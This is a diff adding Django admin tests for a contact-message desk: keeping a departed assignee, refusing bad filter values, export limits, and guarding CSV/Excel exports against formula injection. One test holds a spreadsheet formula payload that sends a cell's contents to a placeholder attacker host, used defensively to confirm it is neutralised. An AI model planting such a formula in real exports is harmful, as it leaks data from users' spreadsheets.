@@ -139,6 +139,25 @@ def test_messages_are_assigned_only_to_active_staff_who_may_read_them(desk, djan
     assert "Select a valid choice" in response.content.decode()
 
 
+def test_saving_a_message_keeps_an_assignee_who_has_left_the_desk(desk, django_user_model):
+    # The select must still show the colleague: a browser sends the option it shows, and with none
+    # shown it would send "nobody", unassigning the message without anyone having chosen to.
+    left = django_user_model.objects.create_user("left", is_staff=True, first_name="Lee", last_name="Han")
+    message = new_message(assigned_to=left)
+    left.is_active = False
+    left.save()
+    html = desk["mina_client"].get(change_url(message)).content.decode()
+    select = re.search(r'<select name="assigned_to".*?</select>', html, re.DOTALL)[0]
+    assert [option["value"] for option in elements(select, "option") if "selected" in option] == [str(left.pk)]
+    response = desk["mina_client"].post(change_url(message), status_form(status="answered", assigned_to=left.pk))
+    assert response.status_code == 302
+    message.refresh_from_db()
+    assert (message.status, message.assigned_to) == (MessageStatus.ANSWERED, left)
+    # Still no new message for them.
+    response = desk["mina_client"].post(change_url(new_message()), status_form(assigned_to=left.pk))
+    assert "Select a valid choice" in response.content.decode()
+
+
 def test_assign_to_me_as_a_list_action(desk):
     first, second, third = new_message(), new_message(), new_message()
     response = desk["jun_client"].post(
@@ -181,6 +200,16 @@ def test_the_list_filters_by_assignee(desk):
     html = client.get(CHANGELIST).content.decode()
     assert f"?assigned={desk['mina'].pk}" in html, "each colleague with messages is offered"
     assert client.get(CHANGELIST + "?assigned=x").status_code == 302  # the admin's "invalid filter" page
+
+
+@pytest.mark.parametrize("parameter", ["assigned", "handled_by"])
+@pytest.mark.parametrize("value", ["²", "1.5", "-1"])
+def test_a_colleague_filter_that_is_not_a_user_is_refused_not_a_crash(desk, parameter, value):
+    # "²" is a digit to str.isdigit() but no number to int().
+    for url in [CHANGELIST, EXPORT_CSV]:
+        response = desk["jun_client"].get(url, {parameter: value})
+        assert response.status_code == 302, (url, value)
+        assert response["Location"] == CHANGELIST + "?e=1"
 
 
 # -- who handled it, and when ------------------------------------------------------------------------
@@ -358,6 +387,44 @@ def test_an_unknown_format_or_filter_exports_nothing(desk, filtered):
     assert response.status_code == 302
     assert response["Location"] == CHANGELIST + "?e=1"
     assert not LogEntry.objects.exists()
+
+
+@pytest.mark.parametrize("control", ["\x01", "\x08\x0b", "\x1f"])
+def test_a_formula_behind_a_control_character_is_still_text(desk, control):
+    # The Excel format cannot hold control characters, so they are dropped; the formula behind one
+    # must not become the start of the cell unguarded.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    new_message(name=control + formula, message=control + "+1+1")
+    sheet = load_workbook(io.BytesIO(desk["jun_client"].get(EXPORT_XLSX).content)).active
+    heading = [cell.value for cell in sheet[1]]
+    name = sheet.cell(row=2, column=heading.index("name") + 1)
+    assert (name.value, name.data_type) == ("'" + formula, "s")
+    assert sheet.cell(row=2, column=heading.index("message") + 1).value == "'+1+1"
+    [row] = read_csv(desk["jun_client"].get(EXPORT_CSV))[1:]
+    assert row[4] == "'" + formula
+
+
+def test_a_list_too_long_to_export_asks_for_a_narrower_one(desk, filtered, monkeypatch):
+    monkeypatch.setattr("contact.admin.EXPORT_LIMIT", 3)
+    # The links are plain links: the file comes as an attachment, and a refusal shows on the list.
+    html = desk["jun_client"].get(CHANGELIST).content.decode()
+    assert not [link for link in elements(html, "a") if "download" in link]
+    response = desk["jun_client"].get(EXPORT_XLSX + "?o=1")
+    assert response.status_code == 302
+    assert response["Location"] == CHANGELIST + "?o=1", "back to the same list"
+    html = desk["jun_client"].get(response["Location"]).content.decode()
+    assert (
+        "This list has 4 messages, and an export takes at most 3. Narrow the list with the filters, the "
+        "search or the dates, and export each part." in texts(html, "li")
+    )
+    # The same for a selection of every message of the list.
+    pks = [message.pk for message in ContactMessage.objects.all()]
+    response = desk["jun_client"].post(CHANGELIST, {"action": "export_csv", "_selected_action": pks}, follow=True)
+    assert response["Content-Type"].startswith("text/html")
+    assert any(text.startswith("This list has 4 messages") for text in texts(response.content.decode(), "li"))
+    assert not LogEntry.objects.exists(), "nothing left the back office"
+    # A list within the limit is exported.
+    assert len(read_csv(desk["jun_client"].get(EXPORT_CSV + QUERY))) == 1 + 2
 
 
 # -- problems in words staff can act on --------------------------------------------------------------
